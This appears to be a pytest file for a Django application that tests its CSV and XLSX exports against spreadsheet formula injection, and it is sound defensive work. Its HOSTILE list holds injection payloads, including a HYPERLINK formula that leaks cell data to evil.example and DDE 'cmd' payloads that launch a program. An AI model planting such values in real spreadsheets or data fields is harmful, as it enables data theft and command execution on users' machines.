"""Formula injection: every CSV/XLSX export, a hostile value in every text column a user can
write; no cell may be a live formula and every hostile text must read back as typed."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse

from tests.factories import events as events_f
from tests.factories import index as index_f
from tests.factories.dues import InvoiceFactory
from tests.factories.members import LifecycleEventFactory, OrganisationFactory
from urbis.common.actor import Actor
from urbis.common.exports import FORMULA_PREFIXES, csv_bytes, is_formula, unguard, xlsx_bytes
from urbis.index.domain import index_compute

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _hostile(i: int) -> str:
    return HOSTILE[i % len(HOSTILE)]


@pytest.fixture
def hostile(db):
    org = OrganisationFactory(
        name=_hostile(0),
        city=_hostile(1),
        official_name=_hostile(2),
        website=_hostile(3),
        description=_hostile(4),
    )
    LifecycleEventFactory(organisation=org, kind="applied", date=dt.date(2022, 1, 10))
    LifecycleEventFactory(
        organisation=org,
        kind="approved",
        date=dt.date(2022, 3, 1),
        reason=_hostile(5),
        decision_ref=_hostile(0),
    )
    InvoiceFactory(organisation=org, fiscal_year=2022)
    event = events_f.EventFactory(slug="ga-hostile")
    events_f.RegistrationFactory(
        event=event,
        organisation=org,
        person_name=_hostile(1),
        position=_hostile(2),
        hotel=_hostile(3),
        dietary_needs=_hostile(4),
    )
    edition, cities, _ = index_f.edition_with_data(cities=4)
    cities[0].name = _hostile(5)
    cities[0].save()
    cities[1].name = _hostile(0)
    cities[1].save()
    index_compute(edition=edition, actor=Actor.system(), runs=20, sobol_samples=8)
    return {"event": event, "edition": edition}


def _endpoints(h):
    slug = h["event"].slug
    return [
        (reverse("events:participants_export", args=[slug, "csv"]), "csv"),
        (reverse("events:participants_export", args=[slug, "xlsx"]), "xlsx"),
        (reverse("members:export") + "?format=csv", "csv"),
        (reverse("members:export") + "?format=xlsx", "xlsx"),
        ("/api/v1/members/export?format=csv", "csv"),
        ("/api/v1/members/export?format=xlsx", "xlsx"),
        (
            reverse("dues:between-assemblies") + "?start=2021-10-01&end=2023-09-26&format=csv",
            "csv",
        ),
        (reverse("dues:invoices") + "?format=csv", "csv"),
        (reverse("index:export", args=[h["edition"].year]), "csv"),
        (reverse("index:audit_export", args=[h["edition"].year]), "xlsx"),
    ]


def _cells(data: bytes, fmt: str) -> list[tuple[object, str]]:
    """(value as read, data type) for every cell; CSV cells are all text ("s")."""
    if fmt == "csv":
        rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
        return [(v, "s") for row in rows for v in row]
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [(c.value, c.data_type) for sheet in book for row in sheet.iter_rows() for c in row]


def test_every_export_writes_hostile_text_inert_and_readable(client, staff_user, hostile):
    client.force_login(staff_user)
    for url, fmt in _endpoints(hostile):
        response = client.get(url)
        assert response.status_code == 200, url
        cells = _cells(response.content, fmt)
        live = [v for v, kind in cells if kind == "f" or (fmt == "csv" and is_formula(v))]
        assert live == [], url
        # Each hostile text the export carries reads back exactly as typed.
        read = {unguard(v) if fmt == "csv" else v for v, _ in cells if isinstance(v, str)}
        carried = [h for h in HOSTILE if h in read]
        assert carried, f"{url} carries none of the hostile values"
        if fmt == "csv":
            guarded = [v for v, _ in cells if isinstance(v, str) and v.lstrip("'") in HOSTILE]
            assert all(v.startswith("'") for v in guarded), url


def test_participants_export_carries_every_hostile_column(client, staff_user, hostile):
    client.force_login(staff_user)
    url = reverse("events:participants_export", args=[hostile["event"].slug, "xlsx"])
    book = openpyxl.load_workbook(io.BytesIO(client.get(url).content))
    row = [c for c in next(book.active.iter_rows(min_row=2))]
    by_header = {h.value: c for h, c in zip(next(book.active.iter_rows()), row, strict=True)}
    for header, value in [
        ("Organisation", _hostile(0)),
        ("Delegate", _hostile(1)),
        ("Position", _hostile(2)),
        ("Hotel", _hostile(3)),
        ("Dietary needs", _hostile(4)),
    ]:
        assert by_header[header].value == value
        assert by_header[header].data_type == "s"
        assert by_header[header].quotePrefix is True


def test_participants_csv_guards_every_hostile_column(client, staff_user, hostile):
    client.force_login(staff_user)
    url = reverse("events:participants_export", args=[hostile["event"].slug, "csv"])
    header, row = list(csv.reader(io.StringIO(client.get(url).content.decode())))[:2]
    got = dict(zip(header, row, strict=True))
    assert got["Delegate"] == "'" + _hostile(1)
    assert got["Position"] == "'" + _hostile(2)
    assert got["Hotel"] == "'" + _hostile(3)
    assert got["Dietary needs"] == "'" + _hostile(4)


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_helper_guards_each_prefix_and_keeps_numbers(prefix):
    text = f"{prefix}1+1"
    data = csv_bytes(["a", "b"], [[text, -12.5]]).decode()
    rows = list(csv.reader(io.StringIO(data, newline="")))
    assert rows == [["a", "b"], ["'" + text, "-12.5"]]
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(["a", "b"], [[text, -12]])))
    a, b = next(book.active.iter_rows(min_row=2))
    # XML reads a carriage return back as a line feed: still text, still no formula.
    expected = text.replace("\r", "\n")
    assert (a.value, a.data_type, a.quotePrefix) == (expected, "s", True)
    assert (b.value, b.data_type) == (-12, "n")


def test_numeric_text_is_not_a_formula():
    assert [is_formula(v) for v in ["-12", "+3.5", "-1e5", "-1-1", "=1", "Seoul", ""]] == [
        False, False, False, True, True, False, False,
    ]  # fmt: skip
    assert unguard("'=1") == "=1"
    assert unguard("'Seoul") == "'Seoul"
